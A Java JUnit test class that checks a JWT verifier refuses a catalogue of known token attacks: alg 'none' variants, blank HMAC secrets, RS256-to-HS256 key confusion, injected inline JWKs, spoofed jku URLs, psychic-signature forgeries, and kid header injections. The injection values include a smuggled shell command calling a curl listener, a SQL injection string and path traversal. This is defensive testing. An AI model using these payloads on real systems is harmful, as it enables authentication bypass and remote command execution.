package dev.safeguards.authn;

import static dev.safeguards.authn.HandMadeJws.b64;
import static dev.safeguards.authn.HandMadeJws.claims;
import static dev.safeguards.authn.HandMadeJws.header;
import static dev.safeguards.authn.HandMadeJws.signingInput;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every attack of src/test/resources/vectors/jwt-attack-payloads-jwt_tool-wstg.txt (jwt_tool's playbook and the OWASP
 * WSTG CVE-2022-21449 example, copied from ../shared/vectors with their sources) against a verifier that trusts an
 * RSA key, an EC key and, for the HMAC attacks, a 256-bit shared secret with HS256 opted in.
 */
class JwtAttackCatalogueTest {

  private static final long NOW = TokenFixtures.NOW.getEpochSecond();
  private static String catalogue;
  private static KeyPair rsa;
  private static KeyPair ec;
  private static byte[] secret;
  /** Trusts an RSA and an EC key (RS256, ES256). */
  private static TokenVerifier verifier;
  /** Trusts a shared secret (HS256 opted in); shared secrets are never mixed with public keys in one set. */
  private static TokenVerifier macVerifier;
  private static ObjectNode claims;

  @BeforeAll
  static void setUp() throws Exception {
    try (InputStream in = JwtAttackCatalogueTest.class.getResourceAsStream("/vectors/jwt-attack-payloads-jwt_tool-wstg.txt")) {
      catalogue = new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
    rsa = HandMadeJws.generate("RSA", null);
    ec = HandMadeJws.generate("EC", "secp256r1");
    secret = new byte[32];
    new java.security.SecureRandom().nextBytes(secret);
    String jwks = "{\"keys\":[" + key(HandMadeJws.jwks("rsa-1", rsa.getPublic(), "RS256")) + ","
        + key(HandMadeJws.jwks("ec-1", ec.getPublic(), "ES256")) + "]}";
    verifier = TokenVerifier.create(TokenPolicy.builder(TokenFixtures.ISSUER, TokenFixtures.AUDIENCE,
            JwkSource.of(jwks))
        .algorithms(JwsAlgorithm.RS256, JwsAlgorithm.ES256)
        .clock(TokenFixtures.CLOCK).build());
    String secrets = "{\"keys\":[{\"kty\":\"oct\",\"kid\":\"mac-1\",\"alg\":\"HS256\",\"k\":\"" + b64(secret)
        + "\"}]}";
    macVerifier = TokenVerifier.create(TokenPolicy.builder(TokenFixtures.ISSUER, TokenFixtures.AUDIENCE,
            JwkSource.ofIncludingSharedSecrets(secrets))
        .allowHmacAlgorithmsWithSharedSecrets()
        .algorithms(JwsAlgorithm.HS256)
        .clock(TokenFixtures.CLOCK).build());
    claims = claims(NOW - 60, NOW + 600, TokenFixtures.ALICE.toString()).put("admin", true);
  }

  private static String key(String jwks) {
    return jwks.substring(jwks.indexOf('[') + 1, jwks.lastIndexOf(']'));
  }

  /** Refused by both verifiers. */
  private static void assertRefused(String token) {
    assertThatThrownBy(() -> verifier.verify(token)).isInstanceOf(AuthenticationException.class);
    assertThatThrownBy(() -> macVerifier.verify(token)).isInstanceOf(AuthenticationException.class);
  }

  private String rs256(ObjectNode header) throws Exception {
    return HandMadeJws.sign(signingInput(header, claims), "SHA256withRSA", rsa.getPrivate());
  }

  @Test
  void controls_genuineTokensOfEachKeyVerify() throws Exception {
    assertThat(verifier.verify(rs256(header("RS256", "rsa-1")))).isNotNull();
    assertThat(verifier.verify(HandMadeJws.sign(signingInput(header("ES256", "ec-1"), claims),
        "SHA256withECDSAinP1363Format", ec.getPrivate()))).isNotNull();
    assertThat(macVerifier.verify(HandMadeJws.hmac(signingInput(header("HS256", "mac-1"), claims), secret)))
        .isNotNull();
  }

  @ParameterizedTest
  @ValueSource(strings = {"none", "None", "NONE", "nOnE"})
  void algNone_everySpelling_isRefused(String alg) {
    assertThat(catalogue).contains("\"" + alg + "\"");
    assertRefused(signingInput(header(alg, "rsa-1"), claims) + ".");
    assertRefused(signingInput(header(alg, null), claims) + ".");
  }

  @Test
  void nullAndBrokenSignatures_areRefused() throws Exception {
    assertThat(catalogue).contains("null signature", "broken signature");
    String genuine = rs256(header("RS256", "rsa-1"));
    String unsigned = genuine.substring(0, genuine.lastIndexOf('.'));
    assertRefused(unsigned + ".");
    assertRefused(unsigned);
    assertRefused(genuine.substring(0, genuine.length() - 4));
  }

  @Test
  void mixedKeySet_ofSecretsAndPublicKeys_isRefused() {
    String mixed = "{\"keys\":[" + key(HandMadeJws.jwks("rsa-1", rsa.getPublic(), "RS256")) + ","
        + "{\"kty\":\"oct\",\"kid\":\"mac-1\",\"k\":\"" + b64(secret) + "\"}]}";
    assertThatThrownBy(() -> JwkSource.ofIncludingSharedSecrets(mixed)).isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("mixes");
  }

  @Test
  void blankPassword_isRefused() throws Exception {
    assertThat(catalogue).contains("blank password");
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", "mac-1"), claims), new byte[0]));
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", "rsa-1"), claims), new byte[0]));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "../../../../../../dev/null", "/dev/null", "/invalid_path", "|sleep 10",
      "| curl <listener>/RCE_in_kid", "x' UNION SELECT '1';--"})
  void kidInjections_areRefused(String kid) throws Exception {
    assertThat(catalogue).contains("kid = \"" + kid + "\"");
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", kid), claims), new byte[0]));
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", kid), claims), "1".getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void spoofedJku_isRefused_evenWithAKnownKid() throws Exception {
    assertThat(catalogue).contains("spoofed jku");
    KeyPair attacker = HandMadeJws.generate("RSA", null);
    for (String kid : List.of("jwt_tool", "rsa-1")) {
      ObjectNode h = header("RS256", kid).put("jku", "https://attacker.example/jwks.json");
      assertRefused(HandMadeJws.sign(signingInput(h, claims), "SHA256withRSA", attacker.getPrivate()));
      assertRefused(rs256(h)); // even signed by the trusted key: the header is refused
    }
  }

  @Test
  void injectedInlineJwk_cve2018_0114_isRefused() throws Exception {
    assertThat(catalogue).contains("CVE-2018-0114");
    KeyPair attacker = HandMadeJws.generate("RSA", null);
    ObjectNode h = header("RS256", "jwt_tool");
    h.set("jwk", HandMadeJws.JSON.readTree(key(HandMadeJws.jwks("jwt_tool", attacker.getPublic(), "RS256"))));
    assertRefused(HandMadeJws.sign(signingInput(h, claims), "SHA256withRSA", attacker.getPrivate()));
  }

  @Test
  void keyConfusion_rs256ToHs256WithThePublicKey_cve2016_10555_isRefused() throws Exception {
    assertThat(catalogue).contains("CVE-2016-10555");
    byte[] pem = ("-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
        .encodeToString(rsa.getPublic().getEncoded()) + "\n-----END PUBLIC KEY-----\n").getBytes(StandardCharsets.US_ASCII);
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", "rsa-1"), claims), pem));
    assertRefused(HandMadeJws.hmac(signingInput(header("HS256", "rsa-1"), claims), rsa.getPublic().getEncoded()));
  }

  @Test
  void psychicSignature_cve2022_21449_isRefused() throws Exception {
    String example = "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJhZG1pbiI6InRydWUifQ.MAYCAQACAQA";
    assertThat(catalogue).contains(example);
    assertRefused(example);
    // The same forgery against our kid and claims, in DER and in the 64-byte JWS form (r = s = 0).
    String input = signingInput(header("ES256", "ec-1"), claims);
    assertRefused(input + ".MAYCAQACAQA");
    assertRefused(input + "." + b64(new byte[64]));
  }
}
